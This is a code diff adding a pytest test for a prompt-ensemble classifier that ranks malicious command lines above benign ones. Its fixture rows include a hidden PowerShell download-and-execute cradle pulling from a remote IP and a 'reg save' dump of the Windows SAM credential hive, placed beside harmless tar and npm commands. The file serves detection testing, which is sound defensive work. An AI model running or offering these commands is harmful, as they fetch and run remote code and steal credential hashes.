@@ -107,3 +107,26 @@ def test_default_labelling_combines_teacher_and_student_on_a_source_the_seed_lac
     auc = {k: binary_metrics(y, np.array([got[r["id"]][k]["malicious"] for r in art + ben]))["roc_auc"]
            for k in ("probs", "raw")}
     assert auc["probs"] >= 0.8 and auc["probs"] > auc["raw"], auc
+
+
+@pytest.mark.slow
+def test_embedded_prompt_ensemble_without_rubric(tmp_path):
+    """An ensemble (zero+fixed) on the embedded teacher: the mean of its members, agreement per row, and the
+    rubric left out with rubric=False; malicious items still rank above benign ones."""
+    from smallworld import data as D
+    from smallworld.demo import EXAMPLES
+
+    task = load_task("cmdlines")
+    seed = D.read_rows(EXAMPLES / "cmdlines_seed.jsonl")
+    rows = [{"id": str(i), "text": t} for i, t in enumerate([
+        "powershell -nop -w hidden -c IEX (New-Object Net.WebClient).DownloadString('http://203.0.113.5/a')",
+        "tar -czf backup.tar.gz ./docs", "reg save HKLM\\SAM C:\\Users\\Public\\sam.save", "npm install --save-dev jest"])]
+    t = EM.EmbeddedTeacher(cache=ResponseCache(tmp_path / "a.sqlite"))
+    ens = L.Demonstrations(task, seed, k=2, mode="zero+fixed", rubric=False)
+    P, A = L.ask_rows(t, task, ens, rows, "ensemble", progress=False, with_agreement=True)
+    members = [L.ask_rows(t, task, m, rows, m.mode, progress=False) for m in ens.members]
+    assert t.usage.calls == 8 and t.usage.cache_hits == 8
+    assert np.allclose(P, (members[0] + members[1]) / 2) and set(np.unique(A)) <= {0.5, 1.0}
+    assert P[0, 0] > P[1, 0] and P[2, 0] > P[3, 0]
+    assert task.rubric.splitlines()[0] not in L.build_prompts(task, ["ls"], ens.members[0])[0]
+    t.close()
